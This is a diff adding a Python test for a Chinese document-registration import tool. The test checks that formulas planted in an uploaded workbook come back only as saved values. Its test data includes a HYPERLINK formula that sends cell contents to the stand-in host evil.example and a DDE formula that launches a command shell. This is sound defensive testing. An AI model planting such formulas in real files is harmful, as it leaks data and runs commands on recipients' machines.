@@ -63,3 +63,34 @@ def test_csv_becomes_an_xlsx_with_the_same_cells(units):
     for row in sheet.iter_rows():
         for cell in row:
             assert cell.data_type != "f"
+
+
+def test_the_clerks_formulas_come_back_as_their_saved_values_never_live(units, tmp_path):
+    """R12: the error workbook goes to the unit's leader and the county office; a formula
+    planted in the upload (a link, a DDE call) must not come back live. Each formula becomes
+    the value saved with it, which is what the import read."""
+    import zipfile
+
+    import xlsxwriter
+
+    path = tmp_path / "收文.xlsx"
+    book = xlsxwriter.Workbook(str(path))
+    sheet = book.add_worksheet("收文登记")
+    sheet.write_row(0, 0, ["收文日期", "来文单位", "标题", "详情"])
+    day = book.add_format({"num_format": "yyyy-mm-dd"})
+    sheet.write_formula(1, 0, "=DATE(2025,3,5)", day, 45721)  # Excel saved 2025-03-05
+    sheet.write_row(1, 1, ["县委办公室", "关于做好春耕生产的通知"])
+    sheet.write_formula(1, 3, '=HYPERLINK("http://evil.example/x?"&A2,"详情")', None, "详情")
+    sheet.write_row(2, 0, ["2025-02-30", "县教育局", "关于开学检查的通知"])
+    sheet.write_formula(2, 3, "=cmd|' /C calc'!A0", None, 0)
+    book.close()
+    batch = _refused_batch(units, path.read_bytes(), "收文.xlsx")
+    content = ledger_error_workbook(batch)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert parts and not any(b"<f" in archive.read(n) for n in parts)
+    out = openpyxl.load_workbook(io.BytesIO(content))["收文登记"]
+    assert out["D2"].value == "详情" and out["D3"].value == 0
+    assert out["A2"].value.date().isoformat() == "2025-03-05"
+    assert "2025-02-30" in out["E3"].value and out["E2"].value is None
+    assert all(cell.data_type != "f" for row in out.iter_rows() for cell in row)
